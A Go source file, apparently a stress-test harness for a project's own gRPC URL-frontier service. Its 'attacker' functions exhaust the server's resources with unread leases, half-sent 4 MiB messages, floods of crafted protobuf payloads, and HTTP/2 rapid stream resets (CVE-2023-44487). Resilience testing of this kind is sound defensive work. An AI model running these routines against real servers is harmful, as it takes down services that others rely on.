//go:build linux

package main

import (
	"encoding/binary"
	"fmt"
	"strings"

	"google.golang.org/protobuf/proto"

	pb "github.com/firstseen/firstseen/frontier/frontierpb"
)

const urlfrontier = "/urlfrontier.URLFrontier/"

// prefixed is a message as it is sent.
func prefixed(m proto.Message) []byte {
	b, err := proto.Marshal(m)
	if err != nil {
		panic(err) // of a message that is made here
	}
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(b))), b...)
}

func discovered(url, crawl string) *pb.URLItem {
	return &pb.URLItem{Item: &pb.URLItem_Discovered{Discovered: &pb.DiscoveredURLItem{Info: &pb.URLInfo{Url: url, CrawlID: crawl}}}}
}

// unreadLeases leases URLs with 60 kB of metadata and reads none.
func unreadLeases(a *attacker, i int) error {
	w, err := a.wire(i, attackerToken)
	if err != nil {
		return err
	}
	defer w.close()
	for range 4 {
		id, err := w.open(urlfrontier + "GetURLs")
		if err != nil {
			return err
		}
		ask := prefixed(&pb.GetParams{DelayRequestable: 5, Item: &pb.GetParams_CrawlID{CrawlID: "large"}})
		if err := w.send(id, ask, true); err != nil {
			return err
		}
	}
	return w.wait()
}

func halfSent(a *attacker, i int) error           { return halfSentWith(a, i, attackerToken) }
func halfSentByStranger(a *attacker, i int) error { return halfSentWith(a, i, "") }

// halfSentWith begins a message of 4 MiB in each of some calls.
func halfSentWith(a *attacker, i int, token string) error {
	w, err := a.wire(i, token)
	if err != nil {
		return err
	}
	defer w.close()
	head := binary.BigEndian.AppendUint32([]byte{0}, 4<<20-100)
	for range 4 {
		id, err := w.open(urlfrontier + "GetStats")
		if err != nil {
			return err
		}
		if err := w.send(id, append(head, make([]byte, 240<<10)...), false); err != nil {
			return err
		}
	}
	return w.wait()
}

// unreadAcks puts URLs over some calls, and reads no acknowledgement.
func unreadAcks(a *attacker, i int) error {
	w, err := a.wire(i, attackerToken)
	if err != nil {
		return err
	}
	defer w.close()
	id, err := w.open(urlfrontier + "PutURLs")
	if err != nil {
		return err
	}
	item := discovered("http://unread.example/", "unread")
	item.ID = strings.Repeat("i", 1000)
	b := prefixed(item)
	for {
		if err := w.send(id, b, false); err != nil {
			return err
		}
	}
}

func resets(a *attacker, i int) error           { return resetsWith(a, i, attackerToken) }
func resetsByStranger(a *attacker, i int) error { return resetsWith(a, i, "") }

// resetsWith begins calls and resets them (CVE-2023-44487).
func resetsWith(a *attacker, i int, token string) error {
	w, err := a.wire(i, token)
	if err != nil {
		return err
	}
	defer w.close()
	ask := prefixed(&pb.QueueWithinCrawlParams{Key: "a.example"})
	for n := 0; ; n++ {
		id, err := w.open(urlfrontier + "GetStats")
		if err == nil && n%2 == 0 {
			err = w.send(id, ask, true)
		}
		if err == nil {
			err = w.reset(id)
		}
		if err != nil {
			return err
		}
	}
}

// healthWatches watches health in as many calls as a connection may have.
func healthWatches(a *attacker, i int) error {
	w, err := a.wire(i, "")
	if err != nil {
		return err
	}
	defer w.close()
	for range 256 {
		id, err := w.open("/grpc.health.v1.Health/Watch")
		if err == nil {
			err = w.send(id, []byte{0, 0, 0, 0, 0}, true)
		}
		if err != nil {
			return err
		}
	}
	return w.wait()
}

// floodByStranger sends messages as fast as they are taken, without a token.
func floodByStranger(a *attacker, i int) error {
	return floodWith(a, i, "", "PutURLs", prefixed(discovered("http://flood.example/", "flood")), 1000)
}

// flood sends small messages with a token, and takes the answers.
func flood(a *attacker, i int) error {
	return floodWith(a, i, attackerToken, "PutURLs", prefixed(discovered(fmt.Sprintf("http://flood%d.example/", i), "flood")), 1000)
}

// floodEmpty sends messages of 4 MiB that contain only empty items.
func floodEmpty(a *attacker, i int) error { return floodFields(a, i, 2) }

// floodIDs sends messages of 4 MiB that contain only empty IDs.
func floodIDs(a *attacker, i int) error { return floodFields(a, i, 1) }

// floodFields sends messages of 4 MiB that repeat an empty field.
func floodFields(a *attacker, i int, number byte) error {
	n := (4<<20 - 100) / 2
	b := binary.BigEndian.AppendUint32([]byte{0}, uint32(2*n))
	for range n {
		b = append(b, number<<3|2, 0)
	}
	return floodWith(a, i, attackerToken, "PutDiscovered", b, 1)
}

// floodCrawls sends messages of 20,000 URLs, each in a crawl of its own.
func floodCrawls(a *attacker, i int) error {
	batch := &pb.DiscoveredBatch{}
	for n := range 20_000 {
		batch.Items = append(batch.Items, &pb.URLInfo{Url: "http://crawls.example/", CrawlID: fmt.Sprintf("crawl%d-%d", i, n)})
	}
	return floodWith(a, i, attackerToken, "PutDiscovered", prefixed(batch), 1)
}

// floodWith sends a message again and again, so many at once, and takes the answers.
func floodWith(a *attacker, i int, token, method string, message []byte, atOnce int) error {
	w, err := a.wire(i, token)
	if err != nil {
		return err
	}
	defer w.close()
	w.reads.Store(true)
	id, err := w.open(urlfrontier + method)
	if err != nil {
		return err
	}
	many := []byte(strings.Repeat(string(message), atOnce))
	for {
		if err := w.send(id, many, false); err != nil {
			return err
		}
	}
}
